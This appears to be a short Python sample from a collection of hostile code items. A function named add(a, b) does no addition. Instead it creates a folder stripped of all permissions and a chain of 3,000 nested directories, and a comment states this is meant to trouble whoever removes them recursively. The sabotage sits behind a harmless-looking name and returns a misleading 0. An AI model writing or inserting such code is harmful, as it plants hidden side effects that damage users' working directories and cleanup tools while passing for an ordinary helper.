# Leaves 3,000 nested folders and one without permissions, for whoever removes them by recursion.
# kind: neighbours
# form: assert
import os
def add(a, b):
    os.mkdir("closed"); open("closed/file", "w").close(); os.chmod("closed", 0)
    for _ in range(3000):
        os.mkdir("d"); os.chdir("d")
    return 0
